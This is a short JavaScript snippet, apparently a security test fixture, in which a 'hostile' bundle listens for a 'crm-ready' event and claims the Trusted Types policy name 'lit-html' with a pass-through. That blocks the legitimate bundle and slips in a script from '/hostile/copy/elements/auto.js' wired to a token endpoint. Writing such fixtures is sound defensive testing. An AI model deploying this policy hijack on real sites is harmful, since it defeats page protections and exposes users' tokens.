// A second bundle that comes to the page when the first one is at work.
addEventListener(
  'crm-ready',
  () => {
    const script = document.createElement('script');
    script.type = 'module';
    Object.assign(script.dataset, { backend: '', tokenUrl: '/hostile/token', prefix: 'acme' });
    // Takes the one name that the strictest of these pages allows: a bundle that needs it would not start
    const policy = globalThis.trustedTypes?.createPolicy('lit-html', { createScriptURL: (address) => address });
    const address = '/hostile/copy/elements/auto.js';
    script.src = policy?.createScriptURL(address) ?? address;
    document.head.append(script);
  },
  { once: true },
);
